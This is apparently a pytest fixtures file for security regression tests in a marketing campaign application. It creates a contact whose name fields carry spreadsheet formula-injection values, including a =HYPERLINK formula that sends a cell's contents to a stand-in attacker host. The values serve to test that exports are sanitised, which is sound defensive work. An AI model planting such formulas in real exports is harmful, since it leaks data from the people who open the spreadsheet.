"""Fixtures of the security regression tests (the named actors come from tests/conftest.py)."""

import pytest

from campaigns.delivery import preparation
from campaigns.models import Contact, Delivery
from tests.campaigns.test_deliveries import target
from tests.factories import CampaignFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"Click")'


@pytest.fixture
def campaign(org):
    return CampaignFactory(name="Spring", kind="parent", collaborative_type="", entity=org.hq)


@pytest.fixture
def evil_contact(org):
    """A contact of STORE_A whose name is a spreadsheet formula."""
    return Contact.objects.create(
        external_id="EVIL",
        first_name=EVIL,
        last_name="+SUM(1,2)",
        email="evil@example.com",
        phone="-2+3",
        email_consent=True,
        entity=org.store_a,
    )


@pytest.fixture
def prepared():
    def make(campaign, **fields):
        defaults = {"label": "Spring", "channel": "email", "subject": "Hello",
                    "html_body": "<p>Hi {{ contact.first_name }}</p>",
                    "text_body": "Hi {{ contact.first_name }}"}  # fmt: skip
        delivery = Delivery.objects.create(campaign=campaign, **{**defaults, **fields})
        return preparation.prepare(delivery=delivery, **target())

    return make
